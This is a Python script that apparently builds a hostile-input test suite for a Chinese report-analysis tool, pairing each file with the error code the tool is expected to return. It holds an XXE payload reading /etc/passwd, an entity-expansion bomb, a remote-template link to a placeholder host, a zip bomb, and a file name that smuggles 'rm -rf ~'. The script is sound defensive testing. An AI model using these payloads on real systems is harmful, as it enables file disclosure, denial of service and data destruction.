"""Generate the hostile-input suite: broken, mislabelled, enormous, encrypted, scanned or
malicious files, each with the error code shuzhi must give it (None: it must be analysed).

    python -m tests.hostile FOLDER      writes the suite into FOLDER
"""
from __future__ import annotations

import os
import sys
import zipfile
from pathlib import Path

from tests import builders

DTD = (b'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa">'
       b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
       b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
       b'<w:body><w:p><w:r><w:t>&c;</w:t></w:r></w:p></w:body></w:document>')
XXE = (b'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
       b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
       b'<w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>')
REMOTE_RELS = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
               b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
               b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
               b'relationships/image" Target="http://192.0.2.1/track.png" TargetMode="External"/>'
               b'<Relationship Id="rId98" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
               b'relationships/attachedTemplate" Target="http://192.0.2.1/evil.dotm" TargetMode="External"/>'
               b'</Relationships>')


def _remote_rels(path: Path, source: Path) -> Path:
    """A good report whose relationships also point at network addresses (never fetched)."""
    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename == "word/_rels/document.xml.rels":
                data = data.replace(b"</Relationships>", REMOTE_RELS.split(b">", 2)[2].rsplit(b"<", 1)[0]
                                    + b"</Relationships>")
            zout.writestr(item, data)
    return path


def _many_pages(path: Path, pages: int) -> Path:
    from pypdf import PdfWriter

    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    with open(path, "wb") as f:
        writer.write(f)
    return path


def build_suite(folder: Path, good_docx: Path, good_pdf: Path) -> dict[str, str | None]:
    """Write the suite; return file name → expected error code (None = analysed)."""
    folder.mkdir(parents=True, exist_ok=True)
    expected: dict[str, str | None] = {}

    def put(name: str, data: bytes, code: str | None):
        (folder / name).write_bytes(data)
        expected[name] = code

    put("空文件.docx", b"", "empty_document")
    put("空文本.txt", b"", "empty_document")
    put("其实是文本.docx", "这不是Word文件".encode(), "corrupt_file")
    put("其实是文本.pdf", "这不是PDF".encode(), "corrupt_file")
    put("截断的.docx", good_docx.read_bytes()[:2500], "corrupt_file")
    put("乱码.txt", os.urandom(20_000), "unknown_encoding")
    put("照片.jpg", b"\xff\xd8\xff\xe0" + os.urandom(1000), "unsupported_format")
    put("表格.xlsx", b"PK\x03\x04" + os.urandom(200), "unsupported_format")
    put("损坏的.pdf", b"%PDF-1.7\n1 0 obj << /Type /Catalog >> garbage\n%%EOF", "corrupt_file")
    put("超长文本.txt", ("党建工作取得成效。" * 60_000).encode("utf-8"), "file_too_large")
    builders.build_docx_with_part(folder / "实体膨胀.docx", good_docx, "word/document.xml", DTD)
    expected["实体膨胀.docx"] = "corrupt_file"
    builders.build_docx_with_part(folder / "外部实体.docx", good_docx, "word/document.xml", XXE)
    expected["外部实体.docx"] = "corrupt_file"
    builders.build_docx_with_part(folder / "压缩炸弹.docx", good_docx, "word/media/bomb.bin",
                                  b"\0" * (400 * 1024 * 1024))
    expected["压缩炸弹.docx"] = "archive_bomb"
    builders.build_encrypted_pdf(folder / "加密.pdf", good_pdf)
    expected["加密.pdf"] = "encrypted_pdf"
    builders.build_image_only_pdf(folder / "扫描件.pdf")
    expected["扫描件.pdf"] = "no_text_layer"
    _many_pages(folder / "三千页.pdf", 3000)
    expected["三千页.pdf"] = "file_too_large"
    _remote_rels(folder / "含外部链接.docx", good_docx)
    expected["含外部链接.docx"] = None
    odd = "报告 \"终稿\" $(rm -rf ~) ;& `id` 'x'.docx"
    (folder / odd).write_bytes(good_docx.read_bytes())
    expected[odd] = None
    return expected


if __name__ == "__main__":
    target = Path(sys.argv[1])
    tmp = target / ".sources"
    tmp.mkdir(parents=True, exist_ok=True)
    docx_path = builders.build_report_docx(tmp / "good.docx")
    pdf_path = builders.build_report_pdf(tmp / "good.pdf", ["今年以来，镇党委坚持抓基层党建。"] * 3, "述职报告")
    for name, code in build_suite(target, docx_path, pdf_path).items():
        print(f"{code or 'analysed':22} {name}")
